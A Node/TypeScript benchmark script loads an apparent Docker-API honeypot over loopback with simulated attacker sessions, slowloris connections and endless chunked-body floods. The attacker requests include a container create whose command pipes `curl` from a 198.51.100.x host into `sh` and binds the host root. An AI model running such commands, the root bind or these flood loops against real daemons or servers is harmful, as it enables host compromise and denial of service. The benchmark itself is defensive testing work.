// Trap benchmark (not a test): requests/s and memory with 1,000 concurrent attacker sessions (one loopback source
// address each), then memory under slowloris and endless-body floods. Writes bench/results/trap.json.
// Run: node --import tsx bench/trap/trap.bench.ts   (loopback only: 127.0.0.1 and 127.1.x.y sources)
import { fork, type ChildProcess } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { fileURLToPath } from 'node:url';

interface Mem { rss: number; heapUsed: number; external: number; sessions: number; events: number; conns: number }

const SESSIONS = Number(process.env.TRAP_BENCH_SESSIONS ?? 1000);
const ROUNDS = Number(process.env.TRAP_BENCH_ROUNDS ?? 3);
const SLOW = Number(process.env.TRAP_BENCH_SLOW ?? 1500);
const ENDLESS = Number(process.env.TRAP_BENCH_ENDLESS ?? 200);
const mb = (n: number) => Math.round((n / 1048576) * 10) / 10;

function startChild(): Promise<{ child: ChildProcess; port: number }> {
  const child = fork(fileURLToPath(new URL('./trap-server.ts', import.meta.url)), [], { execArgv: ['--import', 'tsx', '--expose-gc'] });
  return new Promise((resolve) => child.on('message', (m: { type: string; port: number }) => { if (m.type === 'ready') resolve({ child, port: m.port }); }));
}

function mem(child: ChildProcess): Promise<Mem> {
  return new Promise((resolve) => {
    const on = (m: Mem & { type: string }) => { if (m.type === 'mem') { child.off('message', on); resolve(m); } };
    child.on('message', on);
    child.send({ type: 'mem' });
  });
}

function call(port: number, agent: Agent, method: string, path: string, body?: unknown): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const payload = body === undefined ? undefined : JSON.stringify(body);
    const req = request({ host: '127.0.0.1', port, method, path, agent, headers: payload ? { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(payload) } : {} }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (c: string) => { text += c; });
      res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
    });
    req.on('error', reject);
    req.end(payload);
  });
}

/** One attacker session: recon, pull, create, start, inspect, list (8 requests a round), on its own source address. */
async function attacker(port: number, i: number, rounds: number): Promise<number> {
  const agent = new Agent({ keepAlive: true, maxSockets: 1, localAddress: `127.1.${Math.floor(i / 250)}.${(i % 250) + 1}` });
  let n = 0;
  for (let r = 0; r < rounds; r++) {
    await call(port, agent, 'HEAD', '/_ping'); n++;
    await call(port, agent, 'GET', '/v1.43/version'); n++;
    await call(port, agent, 'GET', '/v1.43/info'); n++;
    await call(port, agent, 'POST', '/v1.43/images/create?fromImage=alpine&tag=latest'); n++;
    const c = await call(port, agent, 'POST', '/v1.43/containers/create', { Image: 'alpine', Cmd: ['sh', '-c', `curl -s http://198.51.100.${i % 250}/x.sh | sh`], HostConfig: { Binds: ['/:/mnt'] } }); n++;
    const id = (JSON.parse(c.text) as { Id: string }).Id;
    await call(port, agent, 'POST', `/v1.43/containers/${id}/start`); n++;
    await call(port, agent, 'GET', `/v1.43/containers/${id}/json`); n++;
    await call(port, agent, 'GET', '/v1.43/containers/json?all=1'); n++;
  }
  agent.destroy();
  return n;
}

async function sessionsPhase(port: number, child: ChildProcess) {
  const before = await mem(child);
  const t0 = process.hrtime.bigint();
  const counts = await Promise.all(Array.from({ length: SESSIONS }, (_, i) => attacker(port, i, ROUNDS)));
  const secs = Number(process.hrtime.bigint() - t0) / 1e9;
  const after = await mem(child);
  const requests = counts.reduce((a, b) => a + b, 0);
  return { sessions: SESSIONS, requests, seconds: Math.round(secs * 100) / 100, requestsPerSecond: Math.round(requests / secs),
    liveSessions: after.sessions, events: after.events, rssBeforeMb: mb(before.rss), rssAfterMb: mb(after.rss), heapAfterMb: mb(after.heapUsed),
    heapPerSessionKb: Math.round(((after.heapUsed - before.heapUsed) / SESSIONS / 1024) * 10) / 10 };
}

async function slowlorisPhase(port: number, child: ChildProcess) {
  const before = await mem(child);
  const socks: Socket[] = [];
  let closedByServer = 0;
  for (let i = 0; i < SLOW; i++) {
    const s = connect({ port, host: '127.0.0.1', localAddress: `127.2.${Math.floor(i / 250)}.${(i % 250) + 1}` });
    s.on('error', () => undefined);
    s.on('close', () => { closedByServer++; });
    s.on('connect', () => s.write('GET /_ping HTTP/1.1\r\nHost: x\r\n'));
    socks.push(s);
  }
  const drip = setInterval(() => { for (const s of socks) if (!s.destroyed) s.write('X-a: b\r\n'); }, 500);
  await new Promise((r) => setTimeout(r, 1500));
  const peak = await mem(child);
  // The header timeout (2 s here) must cut them all.
  while (closedByServer < SLOW) await new Promise((r) => setTimeout(r, 200));
  clearInterval(drip);
  const after = await mem(child);
  return { connections: SLOW, allClosedByServer: closedByServer === SLOW, rssBeforeMb: mb(before.rss), rssPeakMb: mb(peak.rss), heapPeakMb: mb(peak.heapUsed),
    rssAfterMb: mb(after.rss), connsAfter: after.conns };
}

/** Sample the child's memory until stopped; returns the peaks. */
function sampler(child: ChildProcess): () => Promise<{ rss: number; heapUsed: number }> {
  let peak = { rss: 0, heapUsed: 0 };
  let on = true;
  const loop = (async () => {
    while (on) {
      const m = await mem(child);
      peak = { rss: Math.max(peak.rss, m.rss), heapUsed: Math.max(peak.heapUsed, m.heapUsed) };
      await new Promise((r) => setTimeout(r, 100));
    }
  })();
  return async () => { on = false; await loop; return peak; };
}

async function endlessPhase(port: number, child: ChildProcess) {
  const before = await mem(child);
  const stopSampling = sampler(child);
  let answered = 0;
  let sentTotal = 0;
  const chunk = Buffer.alloc(65_536, 0x61);
  const piece = Buffer.concat([Buffer.from(`${chunk.length.toString(16)}\r\n`), chunk, Buffer.from('\r\n')]);
  await Promise.all(Array.from({ length: ENDLESS }, (_, i) => new Promise<void>((resolve) => {
    const s = connect({ port, host: '127.0.0.1', localAddress: `127.3.${Math.floor(i / 250)}.${(i % 250) + 1}` });
    let got = false;
    let sent = 0;
    const pump = () => {
      while (!got && !s.destroyed && sent < 256 * 1048576) {
        sent += chunk.length;
        if (!s.write(piece)) { s.once('drain', pump); return; }
      }
    };
    s.on('connect', () => { s.write('POST /v1.43/containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n'); pump(); });
    s.on('data', () => { if (!got) { got = true; answered++; } });
    s.on('error', () => undefined);
    s.on('close', () => { sentTotal += sent; resolve(); });
  })));
  const peak = await stopSampling();
  const after = await mem(child);
  return { connections: ENDLESS, answered, sentMb: mb(sentTotal), rssBeforeMb: mb(before.rss), rssPeakMb: mb(peak.rss), heapPeakMb: mb(peak.heapUsed),
    rssAfterMb: mb(after.rss), heapAfterMb: mb(after.heapUsed),
    ...(answered < ENDLESS ? { note: 'answered < connections: the server closes at the cap while the client is still writing; the kernel may then reset the connection before the client reads the 413' } : {}) };
}

const { child, port } = await startChild();
const result = {
  bench: 'trap', node: process.version, date: new Date().toISOString(),
  note: 'Trap in a child process, load generator in this one, same 2-core machine (shared). Sessions = distinct loopback source addresses.',
  sessions: await sessionsPhase(port, child),
  slowloris: await slowlorisPhase(port, child),
  endlessBodies: await endlessPhase(port, child),
};
child.send({ type: 'stop' });
const out = fileURLToPath(new URL('../results/trap.json', import.meta.url));
mkdirSync(fileURLToPath(new URL('../results/', import.meta.url)), { recursive: true });
writeFileSync(out, `${JSON.stringify(result, null, 2)}\n`);
process.stdout.write(`${JSON.stringify(result, null, 2)}\n`);
